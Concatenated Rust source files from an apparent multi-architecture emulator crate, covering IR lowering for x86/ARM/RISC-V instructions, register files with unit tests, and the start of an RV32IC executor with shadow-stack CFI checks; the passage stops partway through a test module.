        I::ShlRImm8 { reg, imm } => lw.emit_w(
            IrOp::ShiftImm {
                rd: reg.bits(),
                rm: reg.bits(),
                amount: imm,
                left: true,
                set_zf: true,
            },
            pc,
            next,
            reg.bits(),
        ),
        I::ShrRImm8 { reg, imm } => lw.emit_w(
            IrOp::ShiftImm {
                rd: reg.bits(),
                rm: reg.bits(),
                amount: imm,
                left: false,
                set_zf: true,
            },
            pc,
            next,
            reg.bits(),
        ),
        I::Lea {
            dst,
            src: O::Mem {
                base: Some(b),
                disp,
            },
        } => lw.emit_w(
            IrOp::Lea {
                rd: dst.bits(),
                base: b.bits(),
                disp,
            },
            pc,
            next,
            dst.bits(),
        ),
        I::Lea {
            dst,
            src: O::Mem { base: None, disp },
        } => lw.emit_w(
            IrOp::MovImm {
                rd: dst.bits(),
                imm: disp as u32,
            },
            pc,
            next,
            dst.bits(),
        ),
        I::JmpRel8(rel) => lw.emit(
            IrOp::Jmp {
                target: next.wrapping_add(rel as i32 as u32),
            },
            pc,
            next,
        ),
        I::JmpRel32(rel) => lw.emit(
            IrOp::Jmp {
                target: next.wrapping_add(rel as u32),
            },
            pc,
            next,
        ),
        I::Jz8(rel) => lw.br(true, next.wrapping_add(rel as i32 as u32), pc, next),
        I::Jnz8(rel) => lw.br(false, next.wrapping_add(rel as i32 as u32), pc, next),
        I::Jz32(rel) => lw.br(true, next.wrapping_add(rel as u32), pc, next),
        I::Jnz32(rel) => lw.br(false, next.wrapping_add(rel as u32), pc, next),
        // Everything else — calls, returns, indirect jumps, syscalls,
        // memory-destination RMW forms, movzx, xchg, leave — runs
        // through the interpreter verbatim.
        other => lw.exec(CachedInsn::X86(other, ilen), pc, next),
    }
}

fn lower_arm(lw: &mut Lowerer, insn: arm::Insn, pc: Addr, next: Addr) {
    use arm::Insn as I;
    // The architectural value `pc` reads as mid-instruction.
    let pc8 = pc.wrapping_add(8);
    match insn {
        I::MovImm { rd, imm } if rd != 15 => lw.emit(IrOp::MovImm { rd, imm }, pc, next),
        I::MvnImm { rd, imm } if rd != 15 => lw.emit(IrOp::MovImm { rd, imm: !imm }, pc, next),
        I::MovReg { rd, rm } if rd != 15 => {
            let op = if rm == 15 {
                IrOp::MovImm { rd, imm: pc8 }
            } else {
                IrOp::MovReg { rd, rm }
            };
            lw.emit(op, pc, next);
        }
        I::AddImm { rd, rn, imm } if rd != 15 => {
            let op = if rn == 15 {
                IrOp::MovImm {
                    rd,
                    imm: pc8.wrapping_add(imm),
                }
            } else {
                IrOp::AddRegImm { rd, rn, imm }
            };
            lw.emit(op, pc, next);
        }
        I::SubImm { rd, rn, imm } if rd != 15 => {
            let op = if rn == 15 {
                IrOp::MovImm {
                    rd,
                    imm: pc8.wrapping_sub(imm),
                }
            } else {
                IrOp::AddRegImm {
                    rd,
                    rn,
                    imm: imm.wrapping_neg(),
                }
            };
            lw.emit(op, pc, next);
        }
        I::OrrImm { rd, rn, imm } if rd != 15 => {
            let op = if rn == 15 {
                IrOp::MovImm { rd, imm: pc8 | imm }
            } else {
                IrOp::BitImm {
                    rd,
                    rn,
                    imm,
                    kind: BitKind::Orr,
                }
            };
            lw.emit(op, pc, next);
        }
        I::AndImm { rd, rn, imm } if rd != 15 => {
            let op = if rn == 15 {
                IrOp::MovImm { rd, imm: pc8 & imm }
            } else {
                IrOp::BitImm {
                    rd,
                    rn,
                    imm,
                    kind: BitKind::And,
                }
            };
            lw.emit(op, pc, next);
        }
        I::EorImm { rd, rn, imm } if rd != 15 => {
            let op = if rn == 15 {
                IrOp::MovImm { rd, imm: pc8 ^ imm }
            } else {
                IrOp::BitImm {
                    rd,
                    rn,
                    imm,
                    kind: BitKind::Eor,
                }
            };
            lw.emit(op, pc, next);
        }
        I::LslImm { rd, rm, shift } if rd != 15 => {
            let op = if rm == 15 {
                IrOp::MovImm {
                    rd,
                    imm: pc8.wrapping_shl(shift as u32),
                }
            } else {
                IrOp::ShiftImm {
                    rd,
                    rm,
                    amount: shift,
                    left: true,
                    set_zf: false,
                }
            };
            lw.emit(op, pc, next);
        }
        I::CmpImm { rn, imm } if rn != 15 => lw.emit(IrOp::CmpImm { rn, imm }, pc, next),
        I::Ldr { rd, rn, offset } if rd != 15 => {
            let (base, disp) = arm_mem(rn, offset, pc8);
            lw.emit(
                IrOp::Load {
                    rd,
                    base,
                    disp,
                    byte: false,
                },
                pc,
                next,
            );
        }
        I::Ldrb { rd, rn, offset } if rd != 15 => {
            let (base, disp) = arm_mem(rn, offset, pc8);
            lw.emit(
                IrOp::Load {
                    rd,
                    base,
                    disp,
                    byte: true,
                },
                pc,
                next,
            );
        }
        I::Str { rd, rn, offset } if rd != 15 => {
            let (base, disp) = arm_mem(rn, offset, pc8);
            lw.emit(
                IrOp::Store {
                    rs: rd,
                    base,
                    disp,
                    byte: false,
                },
                pc,
                next,
            );
        }
        I::Strb { rd, rn, offset } if rd != 15 => {
            let (base, disp) = arm_mem(rn, offset, pc8);
            lw.emit(
                IrOp::Store {
                    rs: rd,
                    base,
                    disp,
                    byte: true,
                },
                pc,
                next,
            );
        }
        I::B { offset } => lw.emit(
            IrOp::Jmp {
                target: pc8.wrapping_add(offset as u32),
            },
            pc,
            next,
        ),
        I::BEq { offset } => lw.br(true, pc8.wrapping_add(offset as u32), pc, next),
        I::BNe { offset } => lw.br(false, pc8.wrapping_add(offset as u32), pc, next),
        // push/pop multiples, bx/blx/bl, svc, and every pc-destination
        // form run through the interpreter verbatim.
        other => lw.exec(CachedInsn::Arm(other), pc, next),
    }
}

/// Resolves an ARM base+offset address operand: a pc base folds to an
/// absolute address at lowering time.
fn arm_mem(rn: u8, offset: i32, pc8: Addr) -> (u8, i32) {
    if rn == 15 {
        (NO_BASE, pc8.wrapping_add(offset as u32) as i32)
    } else {
        (rn, offset)
    }
}

fn lower_riscv(lw: &mut Lowerer, insn: riscv::Insn, ilen: u8, pc: Addr, next: Addr) {
    use riscv::Insn as I;
    // x0 folds aggressively: it reads as the constant 0 and writes to it
    // vanish (loads still execute for their fault semantics — the
    // register write is discarded by `Regs::set_gp`).
    match insn {
        I::Addi { rd: 0, .. }
        | I::Andi { rd: 0, .. }
        | I::Ori { rd: 0, .. }
        | I::Xori { rd: 0, .. }
        | I::Slli { rd: 0, .. }
        | I::Srli { rd: 0, .. }
        | I::Add { rd: 0, .. }
        | I::Sub { rd: 0, .. }
        | I::Lui { rd: 0, .. }
        | I::Auipc { rd: 0, .. } => lw.emit(IrOp::Nop, pc, next),
        I::Lui { rd, imm } => lw.emit(IrOp::MovImm { rd, imm }, pc, next),
        I::Auipc { rd, imm } => lw.emit(
            IrOp::MovImm {
                rd,
                imm: pc.wrapping_add(imm),
            },
            pc,
            next,
        ),
        I::Addi { rd, rs1: 0, imm } => lw.emit(
            IrOp::MovImm {
                rd,
                imm: imm as u32,
            },
            pc,
            next,
        ),
        I::Addi { rd, rs1, imm } => lw.emit(
            IrOp::AddRegImm {
                rd,
                rn: rs1,
                imm: imm as u32,
            },
            pc,
            next,
        ),
        I::Andi { rd, rs1, imm } => lw.emit(
            IrOp::BitImm {
                rd,
                rn: rs1,
                imm: imm as u32,
                kind: BitKind::And,
            },
            pc,
            next,
        ),
        I::Ori { rd, rs1, imm } => lw.emit(
            IrOp::BitImm {
                rd,
                rn: rs1,
                imm: imm as u32,
                kind: BitKind::Orr,
            },
            pc,
            next,
        ),
        I::Xori { rd, rs1, imm } => lw.emit(
            IrOp::BitImm {
                rd,
                rn: rs1,
                imm: imm as u32,
                kind: BitKind::Eor,
            },
            pc,
            next,
        ),
        I::Slli { rd, rs1, shamt } => lw.emit(
            IrOp::ShiftImm {
                rd,
                rm: rs1,
                amount: shamt,
                left: true,
                set_zf: false,
            },
            pc,
            next,
        ),
        I::Srli { rd, rs1, shamt } => lw.emit(
            IrOp::ShiftImm {
                rd,
                rm: rs1,
                amount: shamt,
                left: false,
                set_zf: false,
            },
            pc,
            next,
        ),
        // `c.mv`/`mv` expand to add-with-x0.
        I::Add { rd, rs1: 0, rs2 } => lw.emit(IrOp::MovReg { rd, rm: rs2 }, pc, next),
        I::Add { rd, rs1, rs2: 0 } => lw.emit(IrOp::MovReg { rd, rm: rs1 }, pc, next),
        I::Lw { rd, rs1, offset } => {
            let (base, disp) = riscv_mem(rs1, offset);
            lw.emit(
                IrOp::Load {
                    rd,
                    base,
                    disp,
                    byte: false,
                },
                pc,
                next,
            );
        }
        I::Lbu { rd, rs1, offset } => {
            let (base, disp) = riscv_mem(rs1, offset);
            lw.emit(
                IrOp::Load {
                    rd,
                    base,
                    disp,
                    byte: true,
                },
                pc,
                next,
            );
        }
        I::Sw { rs2, rs1, offset } => {
            let (base, disp) = riscv_mem(rs1, offset);
            lw.emit(
                IrOp::Store {
                    rs: rs2,
                    base,
                    disp,
                    byte: false,
                },
                pc,
                next,
            );
        }
        I::Sb { rs2, rs1, offset } => {
            let (base, disp) = riscv_mem(rs1, offset);
            lw.emit(
                IrOp::Store {
                    rs: rs2,
                    base,
                    disp,
                    byte: true,
                },
                pc,
                next,
            );
        }
        I::Jal { rd: 0, offset } => lw.emit(
            IrOp::Jmp {
                target: pc.wrapping_add(offset as u32),
            },
            pc,
            next,
        ),
        I::Beq { rs1, rs2, offset } if rs1 == rs2 => lw.emit(
            // `beq x, x` is unconditional (`beq x0, x0` shows up as a
            // compact jump idiom).
            IrOp::Jmp {
                target: pc.wrapping_add(offset as u32),
            },
            pc,
            next,
        ),
        I::Bne { rs1, rs2, .. } if rs1 == rs2 => lw.emit(IrOp::Nop, pc, next),
        I::Beq { rs1, rs2, offset } => lw.emit(
            IrOp::BrReg {
                rs1,
                rs2,
                eq: true,
                target: pc.wrapping_add(offset as u32),
                fallthrough: next,
            },
            pc,
            next,
        ),
        I::Bne { rs1, rs2, offset } => lw.emit(
            IrOp::BrReg {
                rs1,
                rs2,
                eq: false,
                target: pc.wrapping_add(offset as u32),
                fallthrough: next,
            },
            pc,
            next,
        ),
        // Linking jumps, indirect jumps/returns, reg-reg add/sub and the
        // traps run through the interpreter verbatim (they touch the
        // shadow stack, CFI, or the syscall layer).
        other => lw.exec(CachedInsn::Riscv(other, ilen), pc, next),
    }
}

/// Resolves a RISC-V base+offset address operand: an x0 base folds to
/// an absolute address.
fn riscv_mem(rs1: u8, offset: i32) -> (u8, i32) {
    if rs1 == 0 {
        (NO_BASE, offset)
    } else {
        (rs1, offset)
    }
}
