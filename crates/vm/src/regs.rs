//! Register files for all three architectures.

use std::fmt;

use cml_image::{Addr, Arch};

/// IA-32 general-purpose registers, in their hardware encoding order
/// (the 3-bit register field of ModRM and the `0x50+r` push opcodes).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[allow(missing_docs)]
pub enum X86Reg {
    Eax = 0,
    Ecx = 1,
    Edx = 2,
    Ebx = 3,
    Esp = 4,
    Ebp = 5,
    Esi = 6,
    Edi = 7,
}

impl X86Reg {
    /// Decodes the 3-bit hardware encoding.
    pub fn from_bits(bits: u8) -> X86Reg {
        match bits & 7 {
            0 => X86Reg::Eax,
            1 => X86Reg::Ecx,
            2 => X86Reg::Edx,
            3 => X86Reg::Ebx,
            4 => X86Reg::Esp,
            5 => X86Reg::Ebp,
            6 => X86Reg::Esi,
            _ => X86Reg::Edi,
        }
    }

    /// The 3-bit hardware encoding.
    pub fn bits(self) -> u8 {
        self as u8
    }

    /// All eight registers in encoding order.
    pub const ALL: [X86Reg; 8] = [
        X86Reg::Eax,
        X86Reg::Ecx,
        X86Reg::Edx,
        X86Reg::Ebx,
        X86Reg::Esp,
        X86Reg::Ebp,
        X86Reg::Esi,
        X86Reg::Edi,
    ];
}

impl fmt::Display for X86Reg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            X86Reg::Eax => "eax",
            X86Reg::Ecx => "ecx",
            X86Reg::Edx => "edx",
            X86Reg::Ebx => "ebx",
            X86Reg::Esp => "esp",
            X86Reg::Ebp => "ebp",
            X86Reg::Esi => "esi",
            X86Reg::Edi => "edi",
        };
        f.write_str(s)
    }
}

/// The IA-32 register file (plus `eip` and a zero flag, which is all the
/// supported subset needs).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct X86Regs {
    gpr: [u32; 8],
    /// Instruction pointer.
    pub eip: u32,
    /// Zero flag (set by `xor`, `sub`, `cmp`, `inc`, `dec`).
    pub zf: bool,
}

impl X86Regs {
    /// Reads a general-purpose register.
    pub fn get(&self, r: X86Reg) -> u32 {
        self.gpr[r as usize]
    }

    /// Writes a general-purpose register.
    pub fn set(&mut self, r: X86Reg, v: u32) {
        self.gpr[r as usize] = v;
    }

    /// Stack pointer.
    pub fn esp(&self) -> u32 {
        self.get(X86Reg::Esp)
    }
}

/// ARMv7 registers by number; `r13`=sp, `r14`=lr, `r15`=pc.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct ArmReg(pub u8);

impl ArmReg {
    /// Stack pointer (r13).
    pub const SP: ArmReg = ArmReg(13);
    /// Link register (r14).
    pub const LR: ArmReg = ArmReg(14);
    /// Program counter (r15).
    pub const PC: ArmReg = ArmReg(15);

    /// The register number (0..=15).
    pub fn index(self) -> usize {
        (self.0 & 15) as usize
    }
}

impl fmt::Display for ArmReg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.0 {
            13 => f.write_str("sp"),
            14 => f.write_str("lr"),
            15 => f.write_str("pc"),
            n => write!(f, "r{n}"),
        }
    }
}

/// The ARMv7 register file. Reading `pc` through [`ArmRegs::get`] yields
/// the architectural value (current instruction + 8), matching how
/// `add r0, pc, #imm` computes addresses in real shellcode.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ArmRegs {
    r: [u32; 16],
    /// Zero flag from `cmp`.
    pub zf: bool,
}

impl ArmRegs {
    /// Reads a register; `pc` reads as the current instruction + 8.
    pub fn get(&self, reg: ArmReg) -> u32 {
        if reg.index() == 15 {
            self.r[15].wrapping_add(8)
        } else {
            self.r[reg.index()]
        }
    }

    /// Writes a register; writing `pc` redirects execution.
    pub fn set(&mut self, reg: ArmReg, v: u32) {
        self.r[reg.index()] = v;
    }

    /// The raw (un-offset) program counter.
    pub fn pc(&self) -> u32 {
        self.r[15]
    }

    /// Sets the raw program counter.
    pub fn set_pc(&mut self, v: u32) {
        self.r[15] = v;
    }

    /// Stack pointer.
    pub fn sp(&self) -> u32 {
        self.r[13]
    }
}

/// RV32 registers by number; ABI names in `Display` (`x1`=ra, `x2`=sp).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct RiscvReg(pub u8);

impl RiscvReg {
    /// Hard-wired zero (x0).
    pub const ZERO: RiscvReg = RiscvReg(0);
    /// Return address (x1).
    pub const RA: RiscvReg = RiscvReg(1);
    /// Stack pointer (x2).
    pub const SP: RiscvReg = RiscvReg(2);
    /// First argument / return value (x10).
    pub const A0: RiscvReg = RiscvReg(10);
    /// Second argument (x11).
    pub const A1: RiscvReg = RiscvReg(11);
    /// Third argument (x12).
    pub const A2: RiscvReg = RiscvReg(12);
    /// Syscall-number register (x17).
    pub const A7: RiscvReg = RiscvReg(17);

    /// The register number (0..=31).
    pub fn index(self) -> usize {
        (self.0 & 31) as usize
    }
}

impl fmt::Display for RiscvReg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        const NAMES: [&str; 32] = [
            "zero", "ra", "sp", "gp", "tp", "t0", "t1", "t2", "s0", "s1", "a0", "a1", "a2", "a3",
            "a4", "a5", "a6", "a7", "s2", "s3", "s4", "s5", "s6", "s7", "s8", "s9", "s10", "s11",
            "t3", "t4", "t5", "t6",
        ];
        f.write_str(NAMES[self.index()])
    }
}

/// The RV32 register file: 32 integer registers with `x0` hard-wired to
/// zero, plus the program counter (its own CSR-adjacent register on
/// RISC-V, not `x`-file addressable like ARM's r15).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct RiscvRegs {
    x: [u32; 32],
    /// Program counter.
    pub pc: u32,
}

impl RiscvRegs {
    /// Reads a register; `x0` always reads zero.
    pub fn get(&self, reg: RiscvReg) -> u32 {
        self.x[reg.index()]
    }

    /// Writes a register; writes to `x0` are discarded (hard-wired zero).
    pub fn set(&mut self, reg: RiscvReg, v: u32) {
        if reg.index() != 0 {
            self.x[reg.index()] = v;
        }
    }

    /// Stack pointer (x2).
    pub fn sp(&self) -> u32 {
        self.x[2]
    }

    /// Return address (x1).
    pub fn ra(&self) -> u32 {
        self.x[1]
    }
}

/// Architecture-tagged register file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Regs {
    /// IA-32 registers.
    X86(X86Regs),
    /// ARMv7 registers.
    Arm(ArmRegs),
    /// RV32 registers.
    Riscv(RiscvRegs),
}

impl Regs {
    /// Fresh registers for `arch`, all zero.
    pub fn new(arch: Arch) -> Self {
        match arch {
            Arch::X86 => Regs::X86(X86Regs::default()),
            Arch::Armv7 => Regs::Arm(ArmRegs::default()),
            Arch::Riscv => Regs::Riscv(RiscvRegs::default()),
        }
    }

    /// The current program counter.
    pub fn pc(&self) -> Addr {
        match self {
            Regs::X86(r) => r.eip,
            Regs::Arm(r) => r.pc(),
            Regs::Riscv(r) => r.pc,
        }
    }

    /// Redirects execution.
    pub fn set_pc(&mut self, pc: Addr) {
        match self {
            Regs::X86(r) => r.eip = pc,
            Regs::Arm(r) => r.set_pc(pc),
            Regs::Riscv(r) => r.pc = pc,
        }
    }

    /// The current stack pointer.
    pub fn sp(&self) -> Addr {
        match self {
            Regs::X86(r) => r.esp(),
            Regs::Arm(r) => r.sp(),
            Regs::Riscv(r) => r.sp(),
        }
    }

    /// Moves the stack pointer.
    pub fn set_sp(&mut self, sp: Addr) {
        match self {
            Regs::X86(r) => r.set(X86Reg::Esp, sp),
            Regs::Arm(r) => r.set(ArmReg::SP, sp),
            Regs::Riscv(r) => r.set(RiscvReg::SP, sp),
        }
    }

    /// The x86 view.
    ///
    /// # Panics
    ///
    /// Panics if these are ARM registers; callers dispatch on
    /// architecture first.
    pub fn x86(&self) -> &X86Regs {
        match self {
            Regs::X86(r) => r,
            _ => panic!("expected x86 registers"),
        }
    }

    /// Mutable x86 view.
    ///
    /// # Panics
    ///
    /// Panics if these are not x86 registers.
    pub fn x86_mut(&mut self) -> &mut X86Regs {
        match self {
            Regs::X86(r) => r,
            _ => panic!("expected x86 registers"),
        }
    }

    /// The ARM view.
    ///
    /// # Panics
    ///
    /// Panics if these are not ARM registers.
    pub fn arm(&self) -> &ArmRegs {
        match self {
            Regs::Arm(r) => r,
            _ => panic!("expected arm registers"),
        }
    }

    /// Mutable ARM view.
    ///
    /// # Panics
    ///
    /// Panics if these are not ARM registers.
    pub fn arm_mut(&mut self) -> &mut ArmRegs {
        match self {
            Regs::Arm(r) => r,
            _ => panic!("expected arm registers"),
        }
    }

    /// The RISC-V view.
    ///
    /// # Panics
    ///
    /// Panics if these are not RISC-V registers.
    pub fn riscv(&self) -> &RiscvRegs {
        match self {
            Regs::Riscv(r) => r,
            _ => panic!("expected riscv registers"),
        }
    }

    /// Mutable RISC-V view.
    ///
    /// # Panics
    ///
    /// Panics if these are not RISC-V registers.
    pub fn riscv_mut(&mut self) -> &mut RiscvRegs {
        match self {
            Regs::Riscv(r) => r,
            _ => panic!("expected riscv registers"),
        }
    }

    // ---- raw indexed accessors for the threaded-code IR dispatcher ----
    //
    // The IR lowers register operands to plain indices at block-build
    // time; these accessors skip the per-access enum-variant plus
    // `ArmReg`/`X86Reg` wrapping of the public views. ARM r15 reads raw
    // (the lowering constant-folds the architectural pc+8 instead).

    /// Reads general-purpose register `i` (x86: 0..=7, ARM: 0..=15 raw,
    /// RISC-V: 0..=31 with `x0` reading zero).
    #[inline]
    pub(crate) fn gp(&self, i: u8) -> u32 {
        match self {
            Regs::X86(r) => r.gpr[(i & 7) as usize],
            Regs::Arm(r) => r.r[(i & 15) as usize],
            Regs::Riscv(r) => r.x[(i & 31) as usize],
        }
    }

    /// Writes general-purpose register `i` (RISC-V `x0` stays zero).
    #[inline]
    pub(crate) fn set_gp(&mut self, i: u8, v: u32) {
        match self {
            Regs::X86(r) => r.gpr[(i & 7) as usize] = v,
            Regs::Arm(r) => r.r[(i & 15) as usize] = v,
            Regs::Riscv(r) => {
                if i & 31 != 0 {
                    r.x[(i & 31) as usize] = v;
                }
            }
        }
    }

    /// The zero flag, whichever ISA owns it. RISC-V has no flags
    /// register (branches compare registers directly, lowered to
    /// `IrOp::BrReg`), so it reads as clear and writes are discarded.
    #[inline]
    pub(crate) fn zf(&self) -> bool {
        match self {
            Regs::X86(r) => r.zf,
            Regs::Arm(r) => r.zf,
            Regs::Riscv(_) => false,
        }
    }

    /// Sets the zero flag.
    #[inline]
    pub(crate) fn set_zf(&mut self, z: bool) {
        match self {
            Regs::X86(r) => r.zf = z,
            Regs::Arm(r) => r.zf = z,
            Regs::Riscv(_) => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn x86_encoding_roundtrip() {
        for r in X86Reg::ALL {
            assert_eq!(X86Reg::from_bits(r.bits()), r);
        }
        assert_eq!(X86Reg::Esp.bits(), 4);
    }

    #[test]
    fn arm_pc_reads_plus_eight() {
        let mut r = ArmRegs::default();
        r.set_pc(0x1000);
        assert_eq!(r.get(ArmReg::PC), 0x1008);
        assert_eq!(r.pc(), 0x1000);
    }

    #[test]
    fn tagged_accessors() {
        let mut regs = Regs::new(Arch::X86);
        regs.set_pc(0x42);
        regs.set_sp(0x8000);
        assert_eq!(regs.pc(), 0x42);
        assert_eq!(regs.sp(), 0x8000);
        assert_eq!(regs.x86().esp(), 0x8000);

        let mut regs = Regs::new(Arch::Armv7);
        regs.set_sp(0x7eff_0000);
        assert_eq!(regs.arm().sp(), 0x7eff_0000);
    }

    #[test]
    #[should_panic(expected = "expected x86")]
    fn wrong_view_panics() {
        let regs = Regs::new(Arch::Armv7);
        let _ = regs.x86();
    }

    #[test]
    fn arm_reg_display() {
        assert_eq!(ArmReg(0).to_string(), "r0");
        assert_eq!(ArmReg::SP.to_string(), "sp");
        assert_eq!(ArmReg::LR.to_string(), "lr");
        assert_eq!(ArmReg::PC.to_string(), "pc");
    }

    #[test]
    fn riscv_x0_is_hardwired_zero() {
        let mut r = RiscvRegs::default();
        r.set(RiscvReg::ZERO, 0xDEAD_BEEF);
        assert_eq!(r.get(RiscvReg::ZERO), 0);
        r.set(RiscvReg::SP, 0x7fff_0000);
        assert_eq!(r.sp(), 0x7fff_0000);

        let mut regs = Regs::new(Arch::Riscv);
        regs.set_gp(0, 0x1234);
        assert_eq!(regs.gp(0), 0);
        regs.set_gp(10, 0x1234);
        assert_eq!(regs.gp(10), 0x1234);
        regs.set_sp(0x7ffe_0000);
        assert_eq!(regs.riscv().sp(), 0x7ffe_0000);
        // No flags register: writes are discarded.
        regs.set_zf(true);
        assert!(!regs.zf());
    }

    #[test]
    fn riscv_reg_display() {
        assert_eq!(RiscvReg::ZERO.to_string(), "zero");
        assert_eq!(RiscvReg::RA.to_string(), "ra");
        assert_eq!(RiscvReg::SP.to_string(), "sp");
        assert_eq!(RiscvReg::A0.to_string(), "a0");
        assert_eq!(RiscvReg::A7.to_string(), "a7");
        assert_eq!(RiscvReg(8).to_string(), "s0");
        assert_eq!(RiscvReg(31).to_string(), "t6");
    }
}
