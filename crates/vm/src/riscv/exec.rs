//! RV32IC execution.

use cml_image::Addr;

use crate::hooks;
use crate::machine::{Machine, RunOutcome};
use crate::regs::RiscvReg;
use crate::Fault;

use super::insn::{decode, DecodeError, Insn};

fn illegal(m: &Machine, pc: Addr) -> Fault {
    let mut bytes = [0u8; 4];
    for (i, b) in bytes.iter_mut().enumerate() {
        *b = m.mem.read_u8(pc.wrapping_add(i as u32), pc).unwrap_or(0);
    }
    Fault::IllegalInstruction { pc, bytes }
}

/// Fetches and decodes the instruction at `pc` (2-byte compressed
/// parcel or 4-byte base word), going through the predecoded
/// instruction cache. Because `pc` only needs 2-byte alignment, the
/// same text bytes can cache *two* decodings at once — the aligned
/// stream and a misaligned stream entering the middle of a 4-byte
/// instruction — which is exactly what RVC-aware gadget scanning
/// exploits.
pub(crate) fn decode_at(m: &mut Machine, pc: Addr) -> Result<(Insn, usize), Fault> {
    match m.mem.dcache_get(pc) {
        Some(crate::dcache::CachedInsn::Riscv(insn, len)) => Ok((insn, len as usize)),
        _ => {
            let mut window = [0u8; 4];
            let n = m.mem.fetch_into(pc, &mut window)?;
            let (insn, len) = match decode(&window[..n]) {
                Ok(v) => v,
                Err(DecodeError::Truncated) | Err(DecodeError::Unsupported(_)) => {
                    return Err(illegal(m, pc));
                }
            };
            m.mem.dcache_insert(
                pc,
                crate::dcache::CachedInsn::Riscv(insn, len as u8),
                len as u32,
            );
            Ok((insn, len))
        }
    }
}

/// Whether `insn` terminates a fused basic block: jumps, branches, and
/// traps. Straight-line ALU/memory forms never redirect the pc on
/// RISC-V (x0-writes are discarded, not branches), so everything else
/// falls through.
pub(crate) fn ends_block(insn: &Insn) -> bool {
    matches!(
        *insn,
        Insn::Jal { .. }
            | Insn::Jalr { .. }
            | Insn::Beq { .. }
            | Insn::Bne { .. }
            | Insn::Ecall
            | Insn::Ebreak
    )
}

/// Executes one RV32IC instruction at the current `pc`.
pub(crate) fn step(m: &mut Machine) -> Result<Option<RunOutcome>, Fault> {
    let pc = m.regs.pc();
    // IALIGN=16 with the C extension: odd pcs fault, but pc % 4 == 2 is
    // a legal fetch address.
    if !pc.is_multiple_of(2) {
        return Err(Fault::UnalignedFetch { pc });
    }
    let (insn, len) = decode_at(m, pc)?;
    exec_insn(m, insn, len, pc)
}

/// Executes an already-decoded instruction of encoded length `len` at
/// `pc` — the semantic half of [`step`], shared with the fused-block
/// dispatcher so both modes are one implementation.
pub(crate) fn exec_insn(
    m: &mut Machine,
    insn: Insn,
    len: usize,
    pc: Addr,
) -> Result<Option<RunOutcome>, Fault> {
    let next = pc.wrapping_add(len as u32);
    m.regs.set_pc(next);
    let get = |m: &Machine, r: u8| m.regs.riscv().get(RiscvReg(r));
    let set = |m: &mut Machine, r: u8, v: u32| m.regs.riscv_mut().set(RiscvReg(r), v);
    match insn {
        Insn::Lui { rd, imm } => set(m, rd, imm),
        Insn::Auipc { rd, imm } => set(m, rd, pc.wrapping_add(imm)),
        Insn::Jal { rd, offset } => {
            // rd=1 is the call idiom: record the link on the shadow
            // stack so the matching return is CFI-checked.
            set(m, rd, next);
            if rd == 1 {
                m.shadow_push(next);
            }
            m.regs.set_pc(pc.wrapping_add(offset as u32));
        }
        Insn::Jalr { rd, rs1, offset } => {
            let target = get(m, rs1).wrapping_add(offset as u32) & !1;
            if rd == 0 && rs1 == 1 && offset == 0 {
                // `jalr x0, 0(ra)` / `c.jr ra` — the `ret` idiom CFI
                // enforces.
                m.ret_to(target, pc)?;
            } else {
                set(m, rd, next);
                if rd == 1 {
                    m.shadow_push(next);
                }
                m.regs.set_pc(target);
            }
        }
        Insn::Beq { rs1, rs2, offset } => {
            if get(m, rs1) == get(m, rs2) {
                m.regs.set_pc(pc.wrapping_add(offset as u32));
            }
        }
        Insn::Bne { rs1, rs2, offset } => {
            if get(m, rs1) != get(m, rs2) {
                m.regs.set_pc(pc.wrapping_add(offset as u32));
            }
        }
        Insn::Lw { rd, rs1, offset } => {
            let addr = get(m, rs1).wrapping_add(offset as u32);
            let v = m.mem.read_u32(addr, pc)?;
            set(m, rd, v);
        }
        Insn::Lbu { rd, rs1, offset } => {
            let addr = get(m, rs1).wrapping_add(offset as u32);
            let v = m.mem.read_u8(addr, pc)? as u32;
            set(m, rd, v);
        }
        Insn::Sw { rs2, rs1, offset } => {
            let addr = get(m, rs1).wrapping_add(offset as u32);
            let v = get(m, rs2);
            m.mem.write_u32(addr, v, pc)?;
        }
        Insn::Sb { rs2, rs1, offset } => {
            let addr = get(m, rs1).wrapping_add(offset as u32);
            let v = get(m, rs2) as u8;
            m.mem.write_u8(addr, v, pc)?;
        }
        Insn::Addi { rd, rs1, imm } => {
            let v = get(m, rs1).wrapping_add(imm as u32);
            set(m, rd, v);
        }
        Insn::Andi { rd, rs1, imm } => {
            let v = get(m, rs1) & imm as u32;
            set(m, rd, v);
        }
        Insn::Ori { rd, rs1, imm } => {
            let v = get(m, rs1) | imm as u32;
            set(m, rd, v);
        }
        Insn::Xori { rd, rs1, imm } => {
            let v = get(m, rs1) ^ imm as u32;
            set(m, rd, v);
        }
        Insn::Slli { rd, rs1, shamt } => {
            let v = get(m, rs1).wrapping_shl(shamt as u32);
            set(m, rd, v);
        }
        Insn::Srli { rd, rs1, shamt } => {
            let v = get(m, rs1).wrapping_shr(shamt as u32);
            set(m, rd, v);
        }
        Insn::Add { rd, rs1, rs2 } => {
            let v = get(m, rs1).wrapping_add(get(m, rs2));
            set(m, rd, v);
        }
        Insn::Sub { rd, rs1, rs2 } => {
            let v = get(m, rs1).wrapping_sub(get(m, rs2));
            set(m, rd, v);
        }
        Insn::Ecall => return hooks::syscall_riscv(m, pc),
        // Like x86 `hlt`: a trapping filler, reported as illegal.
        Insn::Ebreak => return Err(illegal(m, pc)),
    }
    Ok(None)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::riscv::Asm;
    use cml_image::{Arch, Perms, SectionKind};

    fn machine(code: Vec<u8>) -> Machine {
        let mut m = Machine::new(Arch::Riscv);
        m.mem.map(
            ".text",
            Some(SectionKind::Text),
            0x1_0000,
            0x1000,
            Perms::RX,
        );
        m.mem
            .map("data", Some(SectionKind::Data), 0x3_0000, 0x100, Perms::RW);
        m.mem.map(
            "stack",
            Some(SectionKind::Stack),
            0x7e00_0000,
            0x1000,
            Perms::RW,
        );
